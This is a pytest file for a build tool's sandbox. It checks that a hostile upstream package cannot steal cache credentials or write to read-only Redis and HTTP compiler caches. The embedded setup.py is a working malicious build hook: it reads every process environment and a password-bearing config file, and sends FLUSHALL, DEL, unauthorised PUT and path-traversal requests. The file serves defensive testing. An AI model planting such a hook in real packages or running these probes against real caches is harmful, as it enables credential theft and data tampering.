"""A hostile build step against the remote caches (issue 21, item 3): a fixture upstream whose
`setup.py` tries to steal the caches' credentials and write a read-only cache, while its
own legitimate ccache compile still gets a remote hit.

The setup.py tries, and writes what it got to $HOME/hostile-report.json:
- every environment variable of the build (a credential in CCACHE_REMOTE_STORAGE, a
  SGLFORGE_*_REMOTE inherited from sglforge);
- /proc/<ppid>/environ and every /proc/*/environ (and cmdline) it can open: sglforge's
  environment holds the wheel cache's write token;
- sglforge's config file, which holds the compiler cache's password;
- Redis through the proxy socket in a read-only build: SET in ccache's key space, SET and
  DEL elsewhere, FLUSHALL, CONFIG, AUTH, an inline command, a pipelined SET behind a GET;
- HTTP through the bridge in a read-only build: PUT and DELETE under the cache's path, GET
  outside it, an absolute-form request to the wheel cache, PROPFIND;
- direct TCP connections to the Redis server and to the wheel cache.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.fixtures import upstreams
from tests.fixtures.project import FixtureProject, make_project
from tests.fixtures.redis_server import start_redis, stop_redis

SECRET = "ccpw-Hq7Kx/Zw4Pm"  # the compiler cache's password ('/' must be percent-encoded)
SECRET_URL = SECRET.replace("/", "%2F")
WHEEL_TOKEN = "s3cret-token"  # tests/fixtures/webdav_server.py

SETUP_PY = r"""
import glob, json, os, socket, subprocess
from setuptools import setup

here = os.path.dirname(os.path.abspath(__file__))
attack = json.load(open(os.path.join(here, "attack.json")))
report = {"uid": os.getuid(), "env": dict(os.environ)}

# the legitimate use: one compile through ccache (a remote hit in the read-only build)
with open(os.path.join(here, "probe.c"), "w") as f:
    f.write("int probe(void) { return 42; }\n")
cc = os.environ.get("SGLFORGE_COMPILER_CACHE")
if cc:
    done = subprocess.run([cc, os.environ.get("CC", "cc"), "-c", "probe.c", "-o", "probe.o"],
                          cwd=here, capture_output=True, text=True)
    report["compile"] = done.returncode
    report["compile_stderr"] = done.stderr[-2000:]

def read(path):
    try:
        with open(path, "rb") as f:
            return f.read().decode(errors="replace")
    except OSError as exc:
        return "DENIED " + type(exc).__name__

def parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rpartition(")")[2].split()[1])
    except OSError:
        return 0

report["ancestors"], pid = {}, os.getppid()
while pid > 1:  # pip, the bridge, unshare, sglforge, pytest, ...
    report["ancestors"][str(pid)] = read(f"/proc/{pid}/environ")
    pid = parent(pid)
report["proc"] = {p: read(p) for p in glob.glob("/proc/[0-9]*/environ")}
report["cmdlines"] = {p: read(p) for p in glob.glob("/proc/[0-9]*/cmdline")}
report["config"] = read(attack["config"])

def exchange(connect, payload):
    try:
        sock = connect()
        sock.settimeout(5)
        sock.sendall(payload)
        sock.shutdown(socket.SHUT_WR)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
        sock.close()
        return data.decode(errors="replace")
    except OSError as exc:
        return "FAILED " + type(exc).__name__ + " " + str(exc)

CRLF = bytes((13, 10))  # setuptools' build_meta rewrites a backslash-r-n in setup.py

def resp(*words):
    out = b"*%d" % len(words) + CRLF
    for w in words:
        w = w.encode()
        out += b"$%d" % len(w) + CRLF + w + CRLF
    return out

storage = os.environ.get("CCACHE_REMOTE_STORAGE", "").split("|")[0]
nonce = attack["nonce"]
if storage.startswith("redis+unix:"):  # redis+unix:PATH or redis+unix://[INFO@]localhost/PATH
    path = storage[len("redis+unix:"):].split("?")[0]
    if path.startswith("//"):
        path = "/" + path[2:].rpartition("@")[2].partition("/")[2]
    def unix():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path)
        return s
    report["redis"] = {
        "set_ccache": exchange(unix, resp("SET", "ccache:evil" + nonce, "x")),
        "set_other": exchange(unix, resp("SET", "evil" + nonce, "x")),
        "set_ex": exchange(unix, resp("SET", "ccache:evil" + nonce, "x", "EX", "100")),
        "del": exchange(unix, resp("DEL", attack["victim"])),
        "flushall": exchange(unix, resp("FLUSHALL")),
        "config": exchange(unix, resp("CONFIG", "GET", "requirepass")),
        "auth": exchange(unix, resp("AUTH", "guess")),
        "keys": exchange(unix, resp("KEYS", "*")),
        "inline": exchange(unix, b"SET inline" + nonce.encode() + b" x" + CRLF),
        "pipelined": exchange(unix, resp("GET", "ccache:nothing")
                              + resp("SET", "ccache:pipe" + nonce, "x")),
    }
elif storage.startswith("http://"):
    hostport = storage[len("http://"):].split("/")[0].rpartition("@")[2]
    prefix = "/" + storage[len("http://"):].partition("/")[2]
    host, port = hostport.rsplit(":", 1)
    tcp = lambda: socket.create_connection((host, int(port)), timeout=5)
    def http(method, target, body=b""):
        lines = [f"{method} {target} HTTP/1.1", f"Host: {hostport}",
                 f"Content-Length: {len(body)}", "Connection: close", "", ""]
        return exchange(tcp, CRLF.join(s.encode() for s in lines) + body)
    report["http"] = {
        "put": http("PUT", prefix.rstrip("/") + "/ev/il" + nonce, b"x"),
        "delete": http("DELETE", prefix.rstrip("/") + "/" + attack["victim"]),
        "outside": http("GET", "/cache/"),
        "dotdot": http("PUT", prefix.rstrip("/") + "/../cache/evil" + nonce, b"x"),
        "absolute": http("PUT", f"http://127.0.0.1:{attack['wheel_port']}/cache/evil", b"x"),
        "propfind": http("PROPFIND", prefix),
    }
report["direct"] = {
    name: exchange(lambda p=port: socket.create_connection(("127.0.0.1", p), timeout=3),
                   b"GET / HTTP/1.0" + CRLF + CRLF)
    for name, port in (("redis", attack["redis_port"]), ("wheel", attack["wheel_port"]))}

with open(os.path.join(os.environ["HOME"], "hostile-report.json"), "w") as f:
    json.dump(report, f)
setup(name="hostile", version="1.0")
"""

RECIPE = """\
upstream = "hostile"
build-requires = ["setuptools"]
mem-per-job = "512MiB"
"""


def _hostile_project(tmp_path: Path, attack: dict) -> FixtureProject:
    project = make_project(tmp_path, ())
    files = {
        "setup.py": SETUP_PY,
        "attack.json": json.dumps(attack),
        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n'
        'build-backend = "setuptools.build_meta"\n',
    }
    commit = upstreams.make_repo(project.mirror / "org" / "hostile", files)
    (project.root / "lockfiles" / "upstreams.toml").write_text(
        f'[[source]]\nname = "hostile"\nurl = "{upstreams.MIRROR_PREFIX}org/hostile"\n'
        f'commit = "{commit}"\n'
    )
    project.recipe("hostile").write_text(RECIPE)
    return project


def _run(
    project: FixtureProject,
    cache: Path,
    env: dict[str, str],
    *extra: str,
    python: str = sys.executable,
) -> tuple[subprocess.CompletedProcess[str], dict]:
    shutil.rmtree(project.build_root, ignore_errors=True)
    cmd = [
        python,
        "-m",
        "sglforge",
        *project.args(cache=cache),
        "build",
        "--no-wheel-cache",
        "--no-check",
        *extra,
    ]
    proc = subprocess.Popen(
        cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=project.root, env=env
    )
    stdout, stderr = proc.communicate(timeout=600)
    result = subprocess.CompletedProcess(cmd, proc.returncode, stdout, stderr)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    # HOME of the build: its step's private one (builder/sandbox.py), kept until the next step
    report = json.loads(
        (project.build_root / "sandbox" / "hostile" / "home" / "hostile-report.json").read_text()
    )
    report["sglforge_pid"] = str(proc.pid)
    return result, report


def _env(webdav_url: str) -> dict[str, str]:
    env = dict(
        os.environ,
        PYTHONPATH=str(Path(__file__).parents[1] / "src"),
        SGLFORGE_WHEEL_CACHE_REMOTE=webdav_url,
    )  # the write token, in sglforge's env
    env.pop("SGLFORGE_PROJECT", None)
    return env


def _no_secret_anywhere(project: FixtureProject, result, report: dict) -> None:
    text = json.dumps({k: v for k, v in report.items() if k != "config"}) + (
        result.stdout + result.stderr
    )
    log = (project.build_root / "logs" / "hostile.log").read_text()
    for secret in (SECRET, SECRET_URL, WHEEL_TOKEN):
        assert secret not in text, secret
        assert secret not in log, secret
    assert not any(k.startswith("SGLFORGE_") and "REMOTE" in k for k in report["env"])
    # sglforge's environment (the wheel token is in it) is not readable, as root or not: in
    # the sandbox's pid namespace the build does not even see sglforge (nor pytest), and
    # sglforge's config file (the compiler cache's password) is not in the sandbox at all
    assert "# sandbox: bubblewrap" in log
    assert report["sglforge_pid"] not in report["ancestors"]
    assert not any("-m sglforge" in c for c in report["cmdlines"].values())
    assert report["config"].startswith("DENIED"), report["config"][:80]


def _keys(redis) -> list[str]:
    """Every key on the server (KEYS * over RESP, outside the proxy)."""
    import socket

    request = b""
    for words in (["AUTH", redis.password], ["KEYS", "*"]):
        request += b"*%d\r\n" % len(words) + b"".join(
            b"$%d\r\n%s\r\n" % (len(w.encode()), w.encode()) for w in words
        )
    with socket.create_connection(("127.0.0.1", redis.port), timeout=5) as conn:
        conn.sendall(request)
        conn.shutdown(socket.SHUT_WR)
        data = b""
        while chunk := conn.recv(65536):
            data += chunk
    lines = data.split(b"\r\n")
    assert lines[0] == b"+OK" and lines[1].startswith(b"*"), data
    return sorted(line.decode() for line in lines[2:] if line and not line.startswith(b"$"))


def _stats(stdout: str) -> str:
    [line] = [x.strip() for x in stdout.splitlines() if x.startswith("    ccache: ")]
    return line


def _remote_hits_only(stdout: str) -> None:
    """The read-only build's compiles (pip runs setup.py twice) are all remote hits: a
    read-only cache reads only the remote (CCACHE_REMOTE_ONLY; its local directory is
    read-only in the sandbox)."""
    stats = _stats(stdout)
    assert "0 local hit(s), 2 remote hit(s), 0 miss(es)" in stats, stdout


def _ccache() -> None:
    if shutil.which("ccache") is None:
        pytest.skip("ccache is not installed (.ci/run installs it)")


def test_hostile_build_against_redis(tmp_path, webdav_auth):
    _ccache()
    redis = start_redis(tmp_path / "redis", password=SECRET)
    try:
        attack = {
            "config": str(tmp_path / "config.toml"),
            "nonce": "n1",
            "victim": "ccache:victim",
            "redis_port": redis.port,
            "wheel_port": webdav_auth.port,
        }
        project = _hostile_project(tmp_path, attack)
        assert attack["config"] == str(project.config)
        project.config.write_text(
            f'[compiler-cache]\nremote = "redis://:{SECRET_URL}@127.0.0.1:{redis.port}/0"\n'
        )
        project.config.chmod(0o600)  # a file with a password in it
        env = _env(webdav_auth.url)
        first, _ = _run(project, tmp_path / "cache-a", env)  # fills the cache
        assert "1 miss(es)" in _stats(first.stdout), first.stdout
        redis.command("SET", "ccache:victim", "keep")  # (a writable build may delete it)
        keys = _keys(redis)
        result, report = _run(project, tmp_path / "cache-b", env, "--compiler-cache-read-only")
    finally:
        after = _keys(redis)
        stop_redis(redis)
    _remote_hits_only(result.stdout)  # the legitimate read
    assert after == keys and "ccache:victim" in after  # nothing written, nothing deleted
    replies = report["redis"]
    for name, reply in replies.items():
        if name == "pipelined":  # the GET is answered (a miss), the SET behind it refused
            assert reply.startswith("$-1\r\n-ERR sglforge cache proxy"), reply
        else:
            assert reply.startswith("-ERR sglforge cache proxy"), (name, reply)
    for name, reply in report["direct"].items():
        assert reply.startswith("FAILED"), (name, reply)  # no network in the namespace
    _no_secret_anywhere(project, result, report)
    assert not webdav_auth.files()  # nothing reached the wheel cache
    log = (project.build_root / "logs" / "hostile.log").read_text()
    assert "# sglforge cache proxy refused: redis 'SET': the cache is read-only" in log


def test_hostile_build_against_http(tmp_path, webdav_auth):
    from tests.fixtures.http_cache import http_cache_server

    _ccache()
    with http_cache_server() as server:
        attack = {
            "config": str(tmp_path / "config.toml"),
            "nonce": "n2",
            "victim": "vi/ctim",
            "redis_port": 1,
            "wheel_port": webdav_auth.port,
        }
        project = _hostile_project(tmp_path, attack)
        assert attack["config"] == str(project.config)
        project.config.write_text(
            f'[compiler-cache]\nremote = "http://ci:{SECRET_URL}@127.0.0.1:{server.port}/ccache"\n'
        )
        project.config.chmod(0o600)
        env = _env(webdav_auth.url)
        first, _ = _run(project, tmp_path / "cache-a", env)
        assert "1 miss(es)" in _stats(first.stdout), first.stdout
        server.store["/ccache/vi/ctim"] = b"keep"
        keys = sorted(server.store)
        result, report = _run(project, tmp_path / "cache-b", env, "--compiler-cache-read-only")
        after = sorted(server.store)
        auth = set(server.auth)
    _remote_hits_only(result.stdout)
    assert after == keys and "/ccache/vi/ctim" in after
    assert all(k.startswith("/ccache/") for k in after)
    import base64

    assert auth == {"Basic " + base64.b64encode(f"ci:{SECRET}".encode()).decode()}
    replies = report["http"]
    for name in ("put", "delete"):
        assert replies[name].startswith("HTTP/1.1 403"), (name, replies[name])
    for name in ("outside", "dotdot", "absolute"):
        assert replies[name].startswith(("HTTP/1.1 403", "HTTP/1.1 404")), (name, replies[name])
    assert replies["propfind"].startswith("HTTP/1.1 501"), replies["propfind"]
    for name, reply in report["direct"].items():
        assert reply.startswith("FAILED"), (name, reply)
    _no_secret_anywhere(project, result, report)
    assert not webdav_auth.files()
